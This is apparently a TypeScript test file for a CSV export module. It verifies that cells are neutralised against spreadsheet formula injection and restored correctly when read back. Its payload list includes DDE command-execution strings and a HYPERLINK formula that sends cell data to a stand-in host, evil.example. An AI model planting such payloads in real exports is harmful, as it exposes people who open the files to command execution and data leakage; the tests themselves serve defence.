/** No cell of an export may become a formula in a spreadsheet (OWASP, "CSV Injection"), and none is lost on the way back. */
import fc from 'fast-check'
import Papa from 'papaparse'
import { describe, expect, test } from 'vitest'
import { csvCell, csvLine, neutraliseFormula, restoreNeutralised } from '../../src/core/areas/documents/export-cell.ts'

describe('text that a spreadsheet would calculate', () => {
  // Payloads of the OWASP page, and the full-width signs that some spreadsheets take for the plain ones.
  const payloads = [
    '=1+1',
    "=cmd|' /C calc'!A0",
    '+1+1',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '＠SUM(A1)',
  ]

  test.each(payloads)('%j begins with an apostrophe once the file is read by a program', (payload) => {
    const [[cell] = []] = Papa.parse<string[]>(csvLine([payload])).data
    expect(cell).toBe(`'${payload}`)
  })

  test('numbers stay numbers, also negative ones; text that looks like one does not become one by itself', () => {
    expect(csvLine([-5.5, 0, 1e21, Number.NaN, true, null, 'plain', '-5.5'])).toBe(
      "-5.5,0,1e+21,,true,,plain,'-5.5\r\n",
    )
  })

  test('a cell cannot break out of its quotes and begin a new cell', () => {
    const rows = Papa.parse<string[]>(csvLine(['harmless",=1+1', 'a\r\n=2+2', 'b;=3+3', 'c\t=4+4']).trimEnd()).data
    expect(rows).toEqual([['harmless",=1+1', 'a\r\n=2+2', 'b;=3+3', 'c\t=4+4']])
    expect(csvCell('b;=3+3')).toBe('"b;=3+3"')
  })

  test('whatever the text, no cell starts a formula, and reading back restores it', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        expect(neutraliseFormula(text)).not.toMatch(/^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/)
        expect(restoreNeutralised(neutraliseFormula(text))).toBe(text)
      }),
      { seed: 20261124, numRuns: 2000 },
    )
  })
})
